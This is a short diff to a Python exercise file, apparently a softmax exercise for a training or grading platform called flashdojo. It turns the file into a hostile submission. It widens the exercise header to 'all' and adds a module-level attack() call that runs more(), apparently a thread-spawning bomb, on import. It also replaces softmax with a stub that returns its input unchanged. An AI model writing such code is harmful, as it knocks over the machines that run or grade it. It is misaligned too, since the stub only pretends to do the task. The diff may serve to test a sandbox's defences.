@@ -1,4 +1,4 @@
-# flashdojo: exercise=s1-softmax stage=s1
+# flashdojo: exercise=all stage=s1
 """Threads that start threads."""
 import _thread
 
@@ -11,5 +11,12 @@ def more():
             pass
 
 
-def softmax(x, dim=-1):
+def attack(x=None):
     more()
+
+
+attack()
+
+
+def softmax(x, dim=-1):
+    return x
